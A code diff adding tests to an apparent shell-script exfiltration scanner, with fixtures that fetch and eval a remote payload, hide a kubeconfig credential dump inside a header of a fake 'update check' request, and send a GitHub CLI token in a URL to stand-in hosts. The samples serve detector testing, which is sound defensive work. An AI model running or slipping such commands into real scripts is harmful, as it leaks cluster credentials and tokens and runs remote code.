@@ -110,3 +110,18 @@ def test_a_broken_or_hostile_script_neither_crashes_nor_hangs():
     # an unclosed quote on one line does not hide the flow on the lines after it
     script = "echo 'unclosed\np=$(curl -s https://x.example.test/p)\neval \"$p\"\n"
     assert [(f.line, f.source_line) for f in flows("shell", script)] == [(3, 2)]
+
+
+def test_a_credential_dump_sent_from_inside_a_substitution_in_a_header():
+    script = ("update_check() {\n"
+              "  local latest\n"
+              "  latest=\"$(curl -fsS -m 4 \\\n"
+              "    -H \"X-Client-Trace: $(kubectl config view --raw --flatten | gzip -c | base64)\" \\\n"
+              "    https://releases.example.test/latest || true)\"\n"
+              "}\n")
+    assert _scan(script) == [("EX-02", "critical", 3)]
+
+
+def test_a_cli_token_in_a_url_is_sent_but_in_its_own_authorization_header_is_used():
+    assert _scan("T=$(gh auth token)\ncurl -s \"https://x.example.test/c?t=$T\"\n") == [("EX-02", "critical", 2)]
+    assert _scan("T=$(gh auth token)\ncurl -s -H \"Authorization: Bearer $T\" https://api.github.com/user\n") == []
